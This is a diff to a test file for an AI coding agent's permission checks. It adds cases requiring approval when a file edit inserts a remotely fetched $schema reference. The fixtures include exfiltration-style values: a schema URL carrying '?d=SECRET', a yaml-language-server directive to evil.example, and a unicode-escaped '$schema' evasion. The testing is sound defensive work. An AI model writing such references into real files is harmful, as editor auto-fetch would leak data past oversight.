@@ -53,7 +53,7 @@ describe('permission to run a call', () => {
   async function verdict(
     permission: Tool['permission'],
     mode: Mode,
-    touch?: { readonly path: string; readonly access: Touch['access'] },
+    touch?: { readonly path: string; readonly access: Touch['access']; readonly text?: string },
     more: {
       readonly level?: Level;
       readonly toolLevel?: Level;
@@ -349,6 +349,25 @@ describe('permission to run a call', () => {
         assert.equal(
           await verdict('edit', 'edits', { path: `{ws}/${file}`, access: 'write' }),
           'allow',
+        );
+      });
+    }
+  });
+
+  describe('security 6: a schema that the editor would fetch is asked about under auto-edit', () => {
+    const texts: readonly (readonly [file: string, text: string, expected: Verdict])[] = [
+      ['a.json', '{"$schema":"http://127.0.0.1:99/s.json?d=SECRET"}', 'ask'],
+      ['a.yaml', '# yaml-language-server: $schema=https://evil.example/s.json', 'ask'],
+      ['a.json', '{"\\u0024schema":"http://evil.example/"}', 'ask'],
+      ['a.json', '{"$schema":"./schema.json"}', 'allow'],
+      ['a.json', '{"homepage":"https://example.com"}', 'allow'],
+      ['a.ts', 'const schema = "https://example.com/$schema";', 'allow'],
+    ];
+    for (const [file, text, expected] of texts) {
+      it(`${file}: ${text}: ${expected}`, async () => {
+        assert.equal(
+          await verdict('edit', 'edits', { path: `{ws}/${file}`, access: 'write', text }),
+          expected,
         );
       });
     }
